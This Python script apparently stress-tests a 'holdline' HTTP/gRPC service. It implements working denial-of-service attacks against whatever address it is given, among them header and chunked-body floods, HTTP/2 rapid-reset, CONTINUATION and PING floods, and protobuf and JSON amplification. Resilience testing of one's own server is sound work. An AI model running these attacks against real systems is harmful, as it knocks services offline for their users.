"""Does harm to a server, a bounded number of times: ATTACK HTTP GRPC METRICS.

Prints a line when the first blow has been struck.
"""

import contextlib
import os
import socket
import sys
import threading

import grpc
import http2_frames as http2
import raw_socket
from holdline.v1 import data_pipeline_pb2 as pipeline

POLL = "/holdline.v1.DataPipeline/PollForTask"
BLOWS = 20
CROWD = 50
ELEMENTS_BYTES = 3 << 20
# How long it tries to send to a server that has stopped listening.
PATIENCE_SECONDS = 1


def connect(address):
    return raw_socket.connect(address, PATIENCE_SECONDS)


def send(address, parts):
    """Sends the parts and drops what comes back, until the server has enough."""
    with connect(address) as connection:

        def read():
            try:
                while connection.recv(65536):
                    pass
            except OSError:
                pass

        reader = threading.Thread(target=read)
        reader.start()
        try:
            for part in parts:
                connection.sendall(part)
        except OSError:
            pass
        try:
            connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        reader.join()


def post(*headers):
    return "\r\n".join(["POST / HTTP/1.1", "Host: localhost",
                        "X-Amz-Target: DataPipeline.PollForTask", *headers,
                        "", ""]).encode()


def headers(http, *_):
    send(http, [b"POST / HTTP/1.1\r\n"] +
         [b"x-%d: %s\r\n" % (i, b"y" * 100) for i in range(1000)])


def bodies(http, *_):
    chunk = b"100000\r\n" + b" " * (1 << 20) + b"\r\n"
    send(http, [post("Transfer-Encoding: chunked")] + [chunk] * 40)


def chunk_extensions(http, *_):
    chunk = b"1;" + b"x" * 10000 + b"\r\n \r\n"
    send(http, [post("Transfer-Encoding: chunked")] + [chunk] * 200)


def connections(*addresses):
    for address in addresses:
        connect(address).close()


def noise(*addresses):
    # The beginning of TLS, and what is none.
    for address in addresses:
        send(address, [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" +
                       os.urandom(1000)])


def send_frames(grpc, frames):
    send(grpc, [http2.opening(), *frames])


def pings(_, grpc, __):
    send_frames(grpc,
                [http2.frame(http2.PING, 0, 0, b"12345678") * 100] * 10)


def settings(_, grpc, __):
    send_frames(grpc, [http2.frame(http2.SETTINGS, 0, 0) * 100] * 10)


def resets(_, grpc, __):
    """Polls that are cancelled at once."""
    data = http2.message(pipeline.PollForTaskInput(
        worker_group="reset").SerializeToString())
    send_frames(grpc, [
        http2.begin_call(POLL, stream) +
        http2.frame(http2.DATA, http2.END_STREAM, stream, data) +
        http2.cancel_call(stream)
        for stream in range(1, 1000, 2)])


def open_streams(_, grpc, __):
    """Polls that never go on."""
    send_frames(grpc, [http2.begin_call(POLL, stream)
                       for stream in range(1, 1000, 2)])


def crowds(_, grpc, __):
    """Connection after connection with hundreds of calls on each."""
    calls = http2.opening() + b"".join(
        http2.begin_call(POLL, stream) for stream in range(1, 1000, 2))
    with contextlib.ExitStack() as crowd:
        for _ in range(CROWD):
            connection = crowd.enter_context(connect(grpc))
            connection.setblocking(False)
            try:
                connection.send(calls)
            except OSError:
                pass  # As much as it takes.


def abandoned_calls(_, grpc, __):
    """Calls that are cancelled before their request, by callers who do not wait
    for anything, and by callers who stay."""
    calls = b"".join(
        http2.begin_call(POLL, stream) + http2.cancel_call(stream)
        for stream in range(1, 50000, 2))

    def stay():
        try:
            with connect(grpc) as connection:
                connection.sendall(http2.opening() + calls)
                raw_socket.read_all(connection)
        except OSError:
            pass

    threads = [threading.Thread(target=send_frames, args=(grpc, [calls])),
               *(threading.Thread(target=stay) for _ in range(3))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def continued_headers(_, grpc, __):
    send_frames(grpc, [
        http2.frame(http2.HEADERS, 0, 1, http2.call_headers(POLL))] + [
            http2.frame(http2.CONTINUATION, 0, 1,
                        http2.header("x", "y" * 100) * 100)] * 100)


def empty_elements(http, grpc_address, _):
    """Requests of a few megabytes that would be hundreds once they are parsed:
    four at a time, in protobuf and in JSON."""
    requests = {
        "/holdline.v1.TaskQueue/SubmitTasks": b"\x0a\x00",
        "/holdline.v1.DataPipeline/PutPipelineDefinition": b"\x12\x00",
        "/holdline.v1.DataPipeline/ReportTaskProgress": b"\x12\x00",
        POLL: b"\x98\x06\x01",
    }

    def call(path, unit):
        with grpc.insecure_channel(grpc_address) as channel:
            method = channel.unary_unary(path)
            try:
                method(unit * (ELEMENTS_BYTES // len(unit)),
                       timeout=10 * PATIENCE_SECONDS)
            except grpc.RpcError:
                pass

    threads = [threading.Thread(target=call, args=each)
               for each in requests.items()]
    for thread in threads:
        thread.start()
    body = b'{"tasks": [{}' + b",{}" * (ELEMENTS_BYTES // 3) + b"]}"
    send(http, [
        b"POST / HTTP/1.1\r\nHost: localhost\r\n"
        b"X-Amz-Target: TaskQueue.SubmitTasks\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body), body])
    for thread in threads:
        thread.join()


ATTACKS = {each.__name__: each for each in (
    headers, bodies, chunk_extensions, connections, noise, pings, settings,
    resets, open_streams, crowds, abandoned_calls, continued_headers,
    empty_elements)}


def main():
    attack = ATTACKS[sys.argv[1]]
    for blow in range(BLOWS):
        try:
            attack(*sys.argv[2:])
        except OSError:
            pass  # The server does not let it connect at the moment.
        if blow == 0:
            print("struck", flush=True)


if __name__ == "__main__":
    main()
